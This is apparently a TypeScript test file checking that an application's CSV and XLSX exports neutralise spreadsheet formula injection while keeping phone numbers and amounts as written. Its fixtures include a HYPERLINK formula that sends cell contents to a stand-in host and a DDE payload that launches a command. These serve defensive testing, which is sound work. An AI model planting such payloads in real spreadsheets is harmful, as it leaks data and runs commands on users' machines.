/**
 * Exports keep phone numbers and ids as written and make formulas impossible (issue 19). A name
 * like `=HYPERLINK(...)` must never reach a spreadsheet as a formula: in CSV it gets the OWASP
 * apostrophe; in XLSX it is a text cell, which a spreadsheet never evaluates. A phone such as
 * `+52 55 1234 5678` or an amount such as `-12.50` matches a strict number/phone pattern, cannot
 * call or reference anything, and is written exactly as it is (no apostrophe shown).
 *
 * Every writer is covered: the API's CSV/XLSX (`sendTable`, real HTTP through a Hono app), and
 * the call list's CSV/XLSX that the CLI and the dashboard export use.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { Hono } from 'hono';
import { describe, expect, test } from 'vitest';
import { duckdb } from '../../src/db/duckdb.ts';
import { spreadsheetSafe } from '../../src/db/spreadsheet-text.ts';
import { toCsv } from '../../src/db/writers.ts';
import { sendTable } from '../../src/api/tabular.ts';
import { callListCsv, callListXlsx } from '../../src/risk/call-list-export.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Clic")';
const PHONE = '+52 55 1234 5678';

/** Values a spreadsheet would run (or that begin like a formula and are not a plain number or phone). */
const RISKY = [HOSTILE, '+HYPERLINK("x")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '+52 55 1234 5678=A1', '-', '+'];
/** Values that begin with + or - but are only a number or a phone: written as they are. */
const PLAIN = [PHONE, '+1 (704) 555-6316', '-12.50', '-12,50', '+7', '-0.5'];

describe('which values get the apostrophe', () => {
  test.each(RISKY)('a risky value is prefixed: %j', (v) => {
    expect(spreadsheetSafe(v)).toBe(`'${v}`);
  });
  test.each(PLAIN)('a number or phone is kept as written: %j', (v) => {
    expect(spreadsheetSafe(v)).toBe(v);
  });
  test('ordinary text and ids are untouched', () => {
    for (const v of ['Maquinaria Maipo S.A. de C.V.', 'INV-00012', '00123', 'a=b', '5512345678', '']) expect(spreadsheetSafe(v)).toBe(v);
  });
});

describe('CSV (toCsv, as the API writes it)', () => {
  test('the hostile name is prefixed and quoted; the phone and the negative amount appear exactly as written', () => {
    const csv = toCsv(['name', 'phone', 'amount'], [[HOSTILE, PHONE, '-12.50']], { excelSafe: true, eol: '\r\n' });
    const [, row] = csv.split('\r\n');
    expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clic"")",${PHONE},-12.50`);
    expect(csv).not.toContain(`'${PHONE}`);
  });
});

describe('the call list (CLI and dashboard export)', () => {
  const rows = [{ rank: 1, customer_id: '-C9', customer_name: HOSTILE, phone: PHONE, email: '@x.example', open_balance: '-12.50' }];

  test('CSV: the phone as written; the name, an id like -C9 and an email starting with @ prefixed', () => {
    const [header, line] = callListCsv(rows, 'es-CO', 'COP').replace('\uFEFF', '').split('\r\n');
    const cells = Object.fromEntries(header.split(';').map((c, i) => [c, line.split(';')[i]]));
    expect(cells.phone).toBe(PHONE);
    // '-C9' would be a formula (minus cell C9): only XLSX can keep it unprefixed, as a text cell.
    expect(cells.customer_id).toBe("'-C9");
    expect(cells.customer_name).toBe(`"'${HOSTILE.replace(/"/g, '""')}"`);
    expect(cells.email).toBe("'@x.example");
    expect(cells.open_balance).toBe('-12,50');
  });

  test('XLSX: text cells without an apostrophe, and no formula anywhere', async () => {
    const book = await callListXlsx(rows, 'es-CO', 'COP');
    const ws = await sheet(book);
    const col = (name: string) => (ws.getRow(1).values as string[]).indexOf(name);
    const cell = (name: string) => ws.getRow(2).getCell(col(name));
    expect([cell('phone').type, cell('phone').value]).toEqual([ExcelJS.ValueType.String, PHONE]);
    expect([cell('customer_name').type, cell('customer_name').value]).toEqual([ExcelJS.ValueType.String, HOSTILE]);
    expect([cell('customer_id').type, cell('customer_id').value]).toEqual([ExcelJS.ValueType.String, '-C9']);
    expect(cell('open_balance').value).toBe(-12.5);
    await expectNoFormula(book);
  });
});

describe('the API (sendTable over HTTP)', () => {
  /** A real DuckDB result with a hostile name, a phone, an id with leading zeros and an amount. */
  async function result() {
    const inst = await duckdb.DuckDBInstance.create(':memory:');
    const conn = await inst.connect();
    const r = await conn.runAndReadAll(
      `select $1::varchar as customer_name, $2::varchar as phone, '00123'::varchar as customer_id, (-12.50)::decimal(18,2) as amount`,
      [HOSTILE, PHONE],
    );
    conn.closeSync();
    inst.closeSync();
    return r;
  }
  const app = new Hono().get('/:format', async (c) => sendTable(c, await result(), c.req.param('format') as 'csv' | 'xlsx', 'customers'));

  test('CSV', async () => {
    const text = await (await app.request('/csv')).text();
    expect(text.split('\r\n')[1]).toBe(`"'${HOSTILE.replace(/"/g, '""')}",${PHONE},00123,-12.50`);
  });

  test('XLSX', async () => {
    const book = Buffer.from(await (await app.request('/xlsx')).arrayBuffer());
    const ws = await sheet(book);
    expect(ws.getRow(2).values).toEqual([undefined, HOSTILE, PHONE, '00123', -12.5]);
    expect(ws.getRow(2).getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(ws.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String);
    await expectNoFormula(book);
  });
});

async function sheet(book: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(book as unknown as ArrayBuffer);
  return wb.worksheets[0];
}

/** The sheet's XML has no formula element: what a spreadsheet evaluates is only `<f>`. */
async function expectNoFormula(book: Buffer) {
  const zip = await JSZip.loadAsync(book);
  const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  expect(xml).not.toMatch(/<f[ >]/);
  // Every text cell is typed as a string (shared or inline), never as a number or formula result.
  expect(xml).toMatch(/t="(s|inlineStr)"/);
}
